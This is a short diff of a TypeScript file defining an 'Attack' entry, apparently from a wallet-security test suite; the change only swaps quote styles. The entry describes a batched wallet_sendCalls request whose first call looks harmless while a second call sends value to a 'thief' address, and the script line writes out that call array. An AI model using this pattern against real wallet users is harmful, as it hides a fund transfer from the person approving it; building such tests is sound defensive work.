@@ -2,8 +2,8 @@ import type { Attack } from '../Attack.ts';
 
 /** The first call is what the person expects. */
 export const attack: Attack = {
-  entry: "provider.request",
-  mechanism: "wallet_sendCalls with an evil second call",
+  entry: 'provider.request',
+  mechanism: 'wallet_sendCalls with an evil second call',
   discovers: true,
   script: `
 const calls = [{ to: kit.account, value: '0x0', data: '0x' }, { to: kit.thief, value: '0x1', data: kit.hex }];
